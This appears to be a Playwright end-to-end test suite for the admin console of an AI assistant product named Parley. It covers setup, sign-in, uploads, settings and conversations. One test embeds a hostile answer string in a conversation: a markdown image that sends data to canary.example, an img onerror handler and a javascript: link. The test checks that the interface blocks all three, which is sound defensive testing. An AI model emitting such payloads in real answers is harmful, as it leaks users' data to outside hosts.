import { afterAll, afterEach, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { gzipSync } from "node:zlib";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { launchBrowser } from "./helpers/browser.ts";
import { bundleAdmin } from "./helpers/bundle.ts";
import type { Scenario } from "./helpers/fake-api.ts";
import { type FakeServer, startFake } from "./helpers/fake-server.ts";
import { ARCHIVE, aSource, DETAIL } from "./helpers/sample-data.ts";

setDefaultTimeout(60_000);

let browser: Browser;
let fake: FakeServer;
let context: BrowserContext;

/** Violations of the page's policy and errors thrown on it. Both must stay empty. */
let complaints: string[];

beforeAll(async () => {
  browser = await launchBrowser();
});

afterAll(() => browser.close());

afterEach(async () => {
  await context.close();
  await fake.stop();
  expect(complaints).toEqual([]);
});

async function open(
  address = "",
  scenario: Scenario = "typical",
  prepare?: (server: FakeServer) => void,
): Promise<Page> {
  fake = await startFake(scenario);
  prepare?.(fake);
  complaints = [];
  context = await browser.newContext({ viewport: { width: 1280, height: 800 }, reducedMotion: "reduce" });
  const page = await context.newPage();
  await page.exposeFunction("complain", (text: string) => complaints.push(text));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) =>
      // biome-ignore lint/suspicious/noExplicitAny: a function the test puts on the page
      (globalThis as any).complain(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`),
    );
  });
  page.on("pageerror", (error) => complaints.push(error.message));
  await page.goto(`${fake.url}/#/${address}`);
  return page;
}

const calls = (call: string) => fake.state.calls.filter((each) => each.call === call);

describe("getting in", () => {
  const password = "correct horse battery staple";

  test("setup asks for what it needs, says how to fix what is wrong, and leads home", async () => {
    const page = await open("", "empty", (server) => {
      server.state.initialised = false;
      server.state.me = null;
    });
    await page.getByRole("button", { name: "Set up Parley" }).click();
    await page.getByText("Enter the name of your organisation").waitFor();
    expect(calls("POST /api/setup")).toEqual([]);

    await page.getByLabel("Setup token").fill("wrong");
    await page.getByLabel("Organisation").fill("Acme");
    await page.getByLabel("Your name").fill("Fiona");
    await page.getByLabel("E-mail").fill("fiona@acme.example");
    await page.getByLabel("Password", { exact: true }).fill("short");
    await page.getByText("Use at least 15 characters").waitFor();
    await page.getByLabel("Password", { exact: true }).fill(password);
    await page.getByRole("button", { name: "Set up Parley" }).click();
    await page.getByText("not the token Parley printed").waitFor();

    await page.getByLabel("Setup token").fill("right-token");
    await page.getByLabel("Password", { exact: true }).fill("password password");
    await page.getByRole("button", { name: "Set up Parley" }).click();
    await page
      .locator(".field", { hasText: "Password" })
      .getByText("This password is easily guessed.")
      .waitFor();
    await page.getByLabel("Password", { exact: true }).fill(password);
    await page.getByRole("button", { name: "Set up Parley" }).click();
    await page.getByRole("heading", { name: "Home" }).waitFor();
    expect(calls("POST /api/setup").at(-1)?.body).toEqual({
      token: "right-token",
      organisation: "Acme",
      name: "Fiona",
      email: "fiona@acme.example",
      password,
    });
  });

  test("setup asks for no token where none is required", async () => {
    const page = await open("", "empty", (server) => {
      server.state.initialised = false;
      server.state.requiresToken = false;
    });
    await page.getByLabel("Organisation").waitFor();
    expect(await page.getByLabel("Setup token").count()).toBe(0);
  });

  test("signing in leads to the address one came for, and out again", async () => {
    const page = await open("knowledge", "typical", (server) => {
      server.state.me = null;
    });
    await page.getByLabel("E-mail").fill("fiona@acme.example");
    await page.getByLabel("Password", { exact: true }).fill("wrong");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByText("E-mail and password do not match").waitFor();
    await page.getByLabel("Password", { exact: true }).fill(password);
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Knowledge" }).waitFor();

    await page.getByRole("button", { name: "Account: Fiona Marsh" }).first().click();
    await page.getByRole("menuitem", { name: "Sign out" }).click();
    await page.getByRole("heading", { name: "Sign in" }).waitFor();
  });

  test("a session that ended elsewhere leads to sign-in at the next call", async () => {
    const page = await open("conversations");
    await page.getByText("VPN on a personal phone").waitFor();
    fake.state.me = null;
    await page.getByRole("link", { name: "Model", exact: true }).first().click();
    await page.getByRole("heading", { name: "Sign in" }).waitFor();
  });
});

describe("the shell", () => {
  test("the palette finds pages, sources and conversations by name, with the keyboard alone", async () => {
    const page = await open();
    await page.getByRole("heading", { name: "Home" }).waitFor();
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox").waitFor();
    await page.keyboard.type("travel");
    await page.getByRole("option", { name: /Travel policy/ }).waitFor();
    await page.getByRole("option", { name: /travel insurance/ }).waitFor();
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Travel policy" }).waitFor();
    expect(page.url()).toEndWith("#/knowledge/src_1");

    await page.keyboard.press("Control+k");
    await page.getByRole("combobox").waitFor();
    await page.keyboard.type("mod");
    await page.getByRole("option", { name: "Model", exact: true }).waitFor();
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Model", exact: true }).waitFor();
  });

  test("every call is made for the chosen tenant, and pages follow when it changes", async () => {
    const page = await open("knowledge");
    await page.getByText("Travel policy").waitFor();
    await page.getByRole("button", { name: "Tenant: Acme Logistics" }).first().click();
    const answered = page.waitForResponse(
      (answer) => answer.request().headers()["x-parley-tenant"] === "ten_2",
    );
    await page.getByRole("menuitem", { name: "Acme Legal" }).click();
    await page.getByRole("button", { name: "Tenant: Acme Legal" }).first().waitFor();
    await answered;
    expect(fake.state.calls.filter(({ call }) => call.includes("/api/admin/")).at(-1)?.tenant).toBe("ten_2");
  });

  test("an operator makes a tenant and is in it", async () => {
    const page = await open();
    await page.getByRole("button", { name: "Tenant: Acme Logistics" }).first().click();
    await page.getByRole("menuitem", { name: "New tenant…" }).click();
    await page.getByLabel("Name").fill("Acme Research");
    await page.getByRole("button", { name: "Create tenant" }).click();
    await page.getByRole("button", { name: "Tenant: Acme Research" }).first().waitFor();
  });

  test("the tray shows running work and empties when it is done", async () => {
    const page = await open();
    const tray = page.getByRole("button", { name: /Reading 2 files/ });
    await tray.waitFor();
    const [first, second] = fake.state.jobs;
    if (!first || !second) throw new Error("The fake has no jobs.");
    fake.say({ type: "job", job: { ...first, state: "done", progress: 1 } });
    await page.getByText("1 / 2").waitFor();
    fake.say({ type: "job", job: { ...second, state: "done", progress: 1 } });
    await tray.waitFor({ state: "detached" });
  });

  test("what failed says why, gives the request id, and can be tried again", async () => {
    const page = await open("knowledge", "failing");
    await page.getByText("The sources could not be loaded").waitFor();
    await page.getByText("req_01JD3Z5W8Q").waitFor();
    fake.state.scenario = "typical";
    await page.getByRole("button", { name: "Try again" }).click();
    await page.getByText("Travel policy").waitFor();
  });

  test("plain HTTP off loopback is said in a line, with the way out", async () => {
    const page = await open("", "crowded");
    await page.getByText("This connection is not encrypted.").waitFor();
    await page.getByRole("button", { name: "How to turn encryption on" }).click();
    await page.getByText("With a certificate for this machine's name").waitFor();
    await page.getByRole("button", { name: "Close" }).click();
    await page.getByRole("dialog").waitFor({ state: "detached" });
  });

  test("a chosen theme stays over a reload", async () => {
    const page = await open();
    await page.getByRole("button", { name: "Account: Fiona Marsh" }).first().click();
    await page.getByRole("menuitem", { name: "Dark" }).click();
    await page.reload();
    await page.getByRole("heading", { name: "Home" }).waitFor();
    expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBe("dark");
  });
});

describe("knowledge", () => {
  test("an upload shows its row at once, and the row becomes ready by itself", async () => {
    const page = await open("knowledge", "empty");
    await page.getByText("No documents yet").waitFor();
    const choosing = page.waitForEvent("filechooser");
    await page.getByRole("button", { name: "Add source" }).click();
    await (await choosing).setFiles([
      { name: "leave.md", mimeType: "text/markdown", buffer: Buffer.from("# Leave") },
    ]);
    await page.getByRole("link", { name: "leave" }).waitFor();
    await page.getByText("Waiting", { exact: true }).waitFor();
    const [source] = fake.state.sources;
    if (!source) throw new Error("The fake got no file.");
    fake.say({
      type: "source",
      source: { ...source, status: "processing", progress: 0.5, stage: "Reading page 1 of 2" },
    });
    await page.getByText("Reading page 1 of 2").waitFor();
    fake.say({ type: "source", source: { ...source, status: "ready", chunkCount: 3 } });
    await page.getByRole("row", { name: /leave.*Ready.*3/ }).waitFor();
  });

  test("progress of a file is shown while it is sent, and sending can be cancelled", async () => {
    const page = await open("knowledge", "empty");
    await page.route("**/upload", () => {});
    const choosing = page.waitForEvent("filechooser");
    await page.getByRole("button", { name: "Add source" }).click();
    await (await choosing).setFiles([
      { name: "slow.pdf", mimeType: "application/pdf", buffer: Buffer.alloc(64) },
    ]);
    await page.getByRole("progressbar", { name: "Upload of slow.pdf" }).waitFor();
    await page.getByRole("button", { name: "Cancel the upload of slow.pdf" }).click();
    await page.getByText("No documents yet").waitFor();
  });

  test("refused files have one row each that says why and how to go on", async () => {
    const page = await open("knowledge");
    const choosing = page.waitForEvent("filechooser");
    await page.getByRole("button", { name: "Add source" }).click();
    const program = { mimeType: "application/x-msdownload", buffer: Buffer.from("MZ") };
    await (await choosing).setFiles([
      { ...program, name: "setup.exe" },
      { ...program, name: "other.exe" },
    ]);
    await page.getByRole("row", { name: /setup.exe.*Parley cannot read this kind of file/ }).waitFor();
    await page.getByRole("row", { name: /other.exe.*Parley cannot read this kind of file/ }).waitFor();
    await page.getByRole("region", { name: "Uploads" }).waitFor({ state: "detached" });
  });

  test("an upload that broke off says so until it is dismissed", async () => {
    const page = await open("knowledge");
    await page.route("**/upload", (route) => route.abort());
    const choosing = page.waitForEvent("filechooser");
    await page.getByRole("button", { name: "Add source" }).click();
    await (await choosing).setFiles([
      { name: "a.pdf", mimeType: "application/pdf", buffer: Buffer.alloc(64) },
    ]);
    await page.getByText("Parley cannot be reached.").waitFor();
    const uploads = page.getByRole("region", { name: "Uploads" });
    await uploads.getByRole("button", { name: "Dismiss" }).click();
    await uploads.waitFor({ state: "detached" });
  });

  test("deleting takes the row away at once, and Undo brings it back", async () => {
    const page = await open("knowledge");
    await page.getByLabel("Select Travel policy").check();
    await page.getByLabel("Select Price list Q4").check();
    await page.getByText("2 selected").waitFor();
    await page.getByRole("button", { name: "Delete" }).click();
    await page.getByText("Deleted 2 sources").waitFor();
    await page.getByRole("link", { name: "Travel policy" }).waitFor({ state: "detached" });
    await page.getByRole("button", { name: "Undo" }).click();
    await page.getByRole("link", { name: "Travel policy" }).waitFor();
    expect(calls("POST /api/admin/knowledge/src_1/restore")).toHaveLength(1);
  });

  test("the list is worked with the keyboard: slash, j, k, x, enter", async () => {
    const page = await open("knowledge");
    await page.getByRole("link", { name: "Handbook 2026" }).waitFor();
    await page.keyboard.press("j");
    await page.keyboard.press("j");
    await page.keyboard.press("x");
    await page.getByText("1 selected").waitFor();
    expect(await page.getByLabel("Select Travel policy").isChecked()).toBe(true);
    await page.keyboard.press("k");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Handbook 2026" }).waitFor();
    await page.goBack();
    await page.getByRole("link", { name: "Travel policy" }).waitFor();
    await page.keyboard.press("/");
    await page.keyboard.type("lease");
    await page.getByRole("link", { name: "Handbook 2026" }).waitFor({ state: "detached" });
    await page.getByRole("link", { name: "Lease contract Rotterdam" }).waitFor();
  });

  test("ten thousand sources load a page at a time, and one comes back to where one was", async () => {
    const page = await open("knowledge", "crowded");
    await page.getByText("All").first().waitFor();
    await page.getByRole("link", { name: "Handbook 2026 1", exact: true }).waitFor();
    expect(await page.locator("tr[data-id]").count()).toBeLessThanOrEqual(100);
    const far = page.locator("tr[data-id=src_c120] a");
    while ((await far.count()) === 0) {
      await page.mouse.wheel(0, 4000);
      await page.locator("tr[data-id]").last().scrollIntoViewIfNeeded();
    }
    await far.scrollIntoViewIfNeeded();
    const before = await page.evaluate(() => scrollY);
    await far.click();
    await page.getByRole("navigation", { name: "Where you are" }).waitFor();
    await page.goBack();
    await far.waitFor();
    await page.waitForFunction((y) => Math.abs(scrollY - y) < 4, before);
  });

  test("after the live socket was cut, the page reads again what it missed", async () => {
    const page = await open("knowledge");
    await page.getByRole("link", { name: "Travel policy" }).waitFor();
    fake.state.sources = [aSource({ id: "src_9", title: "Fire drill" }), ...fake.state.sources];
    fake.cut();
    await page.getByRole("link", { name: "Fire drill" }).waitFor();
  });

  test("a question shows the passages it would be answered from", async () => {
    const page = await open("knowledge");
    await page.getByRole("button", { name: "Try a question" }).click();
    await page.getByRole("textbox", { name: "Question" }).fill("hotel in Zurich");
    await page.keyboard.press("Enter");
    await page.getByText("In Zurich the nightly limit is 190 euros").first().waitFor();
    await page.getByRole("textbox", { name: "Question" }).fill("nothing");
    await page.keyboard.press("Enter");
    await page.getByText("Nothing answers this").waitFor();
  });

  test("a question shows the answer that a visitor would get, above the passages", async () => {
    const page = await open("knowledge");
    await page.getByRole("button", { name: "Try a question" }).click();
    const ask = async (question: string) => {
      await page.getByRole("textbox", { name: "Question" }).fill(question);
      await page.keyboard.press("Enter");
    };
    const answer = page.getByRole("region", { name: "What a visitor would get" });
    const passages = page.getByRole("region", { name: "Passages" });

    await ask("Hotel?");
    await answer.getByText("Anything above needs approval").waitFor();
    await answer.getByRole("button", { name: "Source 1" }).first().click();
    await answer.getByRole("link", { name: "Travel policy" }).waitFor();
    await passages.getByRole("listitem").first().waitFor();
    const [above, below] = [await answer.boundingBox(), await passages.boundingBox()];
    expect(above?.y ?? 0).toBeLessThan(below?.y ?? 0);
    await answer.getByRole("button", { name: /for guests/ }).click();
    expect(await page.getByRole("textbox", { name: "Question" }).inputValue()).toMatch(/for guests/);

    await ask("nothing");
    await answer.getByText("Found nothing").waitFor();
    await ask("broken");
    await answer.getByText("The model's server does not answer.").waitFor();
    await ask("hello");
    await answer.getByText("Small talk", { exact: true }).waitFor();
    await passages.waitFor({ state: "detached" });
  });

  test("a source is renamed and tagged on its own page", async () => {
    const page = await open("knowledge/src_1");
    await page.getByRole("button", { name: "Rename" }).click();
    await page.getByRole("textbox", { name: "Name" }).fill("Travel rules");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Travel rules" }).waitFor();
    await page.getByLabel("Add a tag").fill("public");
    await page.keyboard.press("Enter");
    await page.getByRole("button", { name: "Remove the tag public" }).waitFor();
    expect(calls("PATCH /api/admin/knowledge/src_1").at(-1)?.body).toEqual({ tags: ["hr", "public"] });
  });
});

describe("a source of many documents", () => {
  test("lists them with what could not be read, a page at a time or the failed ones alone", async () => {
    const page = await open("knowledge/src_7");
    await page.getByText("Ready, but 10 of 200 failed").waitFor();
    await page.getByRole("link", { name: "Circular 1", exact: true }).waitFor();
    await page.getByText("Failed: The file is protected with a password.").first().waitFor();
    expect(await page.locator("tr[data-id]").count()).toBeLessThanOrEqual(100);

    await page.getByRole("button", { name: "Failed 10" }).click();

    await page.getByRole("link", { name: "Circular 1", exact: true }).waitFor({ state: "detached" });
    await page.waitForFunction(() => document.querySelectorAll("tr[data-id]").length === 10);
  });

  test("shows the passages of one of them, and Back leads to the list", async () => {
    const page = await open("knowledge/src_7");
    await page.getByRole("link", { name: "Circular 2", exact: true }).click();
    await page.getByRole("heading", { name: "Passages" }).waitFor();
    expect(page.url()).toContain("document=doc_2");
    await page.getByRole("link", { name: "All documents" }).click();
    await page.getByRole("link", { name: "Circular 2", exact: true }).waitFor();
    await page.goBack();
    await page.getByRole("heading", { name: "Passages" }).waitFor();
  });

  test("shows the text that the passages make up", async () => {
    const page = await open("knowledge/src_1");
    await page.getByRole("heading", { name: "Passages" }).waitFor();
    await page.getByText("Text", { exact: true }).click();
    await page.getByRole("heading", { name: "Text", exact: true }).waitFor();
    expect(await page.locator(".understood .passage").count()).toBeGreaterThan(0);
    expect(await page.locator(".chunks").count()).toBe(0);
  });

  test("reads the list again when a document is done", async () => {
    const page = await open("knowledge/src_7");
    await page.getByRole("link", { name: "Circular 1", exact: true }).waitFor();
    const source = { ...ARCHIVE, failedCount: 9, updatedAt: new Date().toISOString() };
    fake.say({ type: "source", source });
    await page.getByText("Ready, but 9 of 200 failed").waitFor();
    const asked = () => calls("GET /api/admin/knowledge/src_7/documents").length;
    while (asked() < 2) await page.waitForResponse(/documents/);
  });
});

describe("settings", () => {
  test("changes are counted, survive a look elsewhere, can be undone, and only they are sent", async () => {
    const page = await open("widget");
    await page.getByLabel("Name", { exact: true }).fill("Ask Fiona");
    await page.getByLabel("Greeting").fill("Hi there.");
    await page.getByText("2 unsaved changes").waitFor();
    await page.getByRole("img", { name: "Preview of the widget" }).getByText("Ask Fiona").waitFor();
    await page.getByRole("link", { name: "Home" }).first().click();
    await page.getByRole("link", { name: "Widget" }).first().click();
    await page.getByText("2 unsaved changes").waitFor();
    await page
      .getByLabel("Greeting")
      .fill("Hello. Ask me about travel, leave or IT, and I will show you where it is written.");
    await page.getByText("1 unsaved change").waitFor();
    await page.getByRole("button", { name: "Save", exact: true }).click();
    await page.getByText("unsaved change").waitFor({ state: "detached" });
    expect(calls("PUT /api/admin/widget").map(({ body }) => body)).toEqual([{ displayName: "Ask Fiona" }]);

    await page.getByLabel("Name", { exact: true }).fill("Somebody");
    await page.getByRole("button", { name: "Undo" }).click();
    expect(await page.getByLabel("Name", { exact: true }).inputValue()).toBe("Ask Fiona");
  });

  test("an allowed page that would be refused is explained before it is saved", async () => {
    const page = await open("widget");
    await page.getByLabel("Add", { exact: true }).first().fill("ftp://acme.example");
    await page.keyboard.press("Enter");
    await page.getByText("Begin with http:// or https://").waitFor();
    await page.getByLabel("Add", { exact: true }).first().fill("wiki.acme.example");
    await page.keyboard.press("Enter");
    await page.getByText("1 unsaved change").waitFor();
  });

  test("rotating the embed key needs the tenant's name", async () => {
    const page = await open("widget");
    await page.getByRole("button", { name: "Rotate key" }).click();
    const dialog = page.getByRole("dialog", { name: "Rotate the embed key" });
    const rotate = dialog.getByRole("button", { name: "Rotate key" });
    expect(await rotate.isDisabled()).toBe(true);
    await dialog.getByRole("textbox").fill("Acme Logistics");
    await rotate.click();
    await page.getByText("The key is new").waitFor();
    expect(await page.getByLabel("Snippet").inputValue()).toContain("pk_fresh00000000000");
  });

  test("a stored key is never shown: it is replaced, kept or removed", async () => {
    const page = await open("model");
    await page.getByText("•••• 7Qx2").waitFor();
    await page.getByRole("button", { name: "Replace" }).click();
    await page.getByLabel("API key").fill("sk-new-1234");
    await page.getByRole("button", { name: "Save", exact: true }).click();
    await page.getByText("Saved.").waitFor();
    expect(calls("PUT /api/admin/llm/config").map(({ body }) => body)).toEqual([{ apiKey: "sk-new-1234" }]);
    await page.getByText("•••• 1234").waitFor();
    await page.getByRole("button", { name: "Remove" }).click();
    await page.getByRole("button", { name: "Save", exact: true }).click();
    await page.getByText("unsaved change").waitFor({ state: "detached" });
    expect(calls("PUT /api/admin/llm/config").at(-1)?.body).toEqual({ apiKey: null });
  });

  test("an address that may not be called says so as it is saved, with what the operator can do", async () => {
    const problem = "It is called once an operator starts Parley with --egress-allow llm.acme.example:8000.";
    const page = await open("model", "typical", ({ state }) => {
      state.llm = { ...state.llm, addressProblem: problem };
    });
    await page.getByText(problem).waitFor();

    const saved = await page.getByLabel("Address").inputValue();
    await page.getByLabel("Address").fill("http://other.acme.example/v1");
    await page.getByText(problem).waitFor({ state: "detached" });
    await page.getByLabel("Address").fill(saved);
    await page.getByText(problem).waitFor();

    await page.getByLabel("Address").fill("http://third.acme.example/v1");
    await page.getByRole("button", { name: "Save", exact: true }).click();
    await page.getByText("Saved, but this address may not be called yet.").waitFor();
    await page.getByText(problem).waitFor();
  });

  test("the model is tried with unsaved settings, and its words come with the time to the first", async () => {
    const page = await open("model");
    await page.getByRole("combobox", { name: "Model" }).fill("other-model");
    await page.getByRole("button", { name: "Test the connection" }).click();
    await page.getByText("Parley is connected and can hear you.").waitFor();
    await page.getByText("212 ms").waitFor();
    expect(calls("POST /api/admin/llm/test").map(({ body }) => body)).toEqual([{ model: "other-model" }]);
  });
});

describe("conversations", () => {
  test("a citation opens its passage, and the inspector says what was kept and dropped", async () => {
    const page = await open("conversations/cnv_1");
    await page.getByRole("button", { name: "Source 2" }).click();
    await page.getByText("Cost centre 4471, Sales Europe").waitFor();
    await page.getByText("dropped: below the threshold").waitFor();
    await page.getByText("hotel Zurich breakfast included nightly limit").waitFor();
    await page.getByText("1,912 in · 143 out").waitFor();
  });

  test("nothing in an answer runs or loads anything", async () => {
    const requests: string[] = [];
    const page = await open("conversations", "typical");
    page.on("request", (request) => requests.push(request.url()));
    const hostile =
      "![a](https://canary.example/?d=S) <img src=https://canary.example/x onerror=complain('pwned')> [x](javascript:complain('pwned'))";
    const answer = DETAIL.messages.find((message) => message.id === "msg_4");
    if (!answer) throw new Error("The sample conversation has no second answer.");
    await page.route("**/api/admin/conversations/cnv_2", (route) =>
      route.fulfill({
        json: {
          ...DETAIL,
          messages: [
            { ...answer, role: "user", content: hostile },
            { ...answer, id: "msg_9", content: hostile },
          ],
        },
      }),
    );
    await page.getByRole("link", { name: /new badge/ }).click();
    await page.getByText("[image blocked]").waitFor();
    expect(await page.locator(".talk img, .talk a[href^=javascript]").count()).toBe(0);
    expect(requests.filter((url) => !url.startsWith(fake.url))).toEqual([]);
  });

  test("deleting goes back to the list with Undo", async () => {
    const page = await open("conversations/cnv_4");
    await page.getByRole("button", { name: "Delete" }).click();
    await page.getByText("Deleted the conversation").waitFor();
    await page.getByRole("button", { name: "Undo" }).click();
    await page.getByRole("link", { name: "VPN on a personal phone" }).waitFor();
  });
});

describe("everywhere", () => {
  const pages = [
    "",
    "conversations",
    "conversations/cnv_1",
    "knowledge",
    "knowledge/src_1",
    "widget",
    "quality",
    "quality/gld_4",
    "quality/evr_2",
    "model",
    "design",
  ];

  test("no page breaks the strict policy or grows wider than a phone, in either direction of writing", async () => {
    const page = await open();
    for (const [width, dir] of [
      [1280, "ltr"],
      [390, "ltr"],
      [390, "rtl"],
    ] as const) {
      await page.setViewportSize({ width, height: 800 });
      await page.evaluate((value) => document.documentElement.setAttribute("dir", value), dir);
      for (const address of pages) {
        await page.evaluate((hash) => {
          location.hash = `#/${hash}`;
        }, address);
        await page.locator("#page h1").first().waitFor();
        const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
        expect([address, width, dir, overflow]).toEqual([address, width, dir, Math.min(0, overflow)]);
      }
    }
  });

  test("works where the browser lends no clipboard, as on plain HTTP", async () => {
    const page = await open("widget");
    await page.evaluate(() => {
      Object.defineProperty(navigator, "clipboard", { value: undefined });
      document.execCommand = (command: string) => {
        document.title = `${command}: ${getSelection()?.toString() || (document.activeElement as HTMLTextAreaElement).value}`;
        return true;
      };
    });
    await page.getByRole("button", { name: "Copy" }).click();
    await page.getByRole("button", { name: "Copied" }).waitFor();
    expect(await page.title()).toStartWith("copy: <script src=");
  });

  test("the first load stays within 120 kB", async () => {
    const page = await open();
    const loaded = await page.evaluate<string[]>(
      `performance.getEntriesByType("resource").map(({ name }) => new URL(name).pathname)`,
    );
    const bundle = await bundleAdmin();
    let size = 0;
    for (const path of loaded.filter((each) => bundle.has(each)))
      size += gzipSync((await bundle.get(path)?.body.arrayBuffer()) ?? "").length;
    expect(loaded).toContain("/assets/admin.js");
    expect(size).toBeLessThanOrEqual(120_000);
  });

  test("a page that cannot be fetched says why, and the others stay", async () => {
    const page = await open();
    await page.route("**/assets/admin-*.js", (route) => route.abort());
    await page.getByRole("link", { name: "Tools", exact: true }).click();
    await page.getByText("it was upgraded since this browser opened it").waitFor();
    await page.getByRole("link", { name: "Conversations", exact: true }).click();
    await page.getByRole("heading", { name: "Conversations", level: 1 }).waitFor();
  });
});
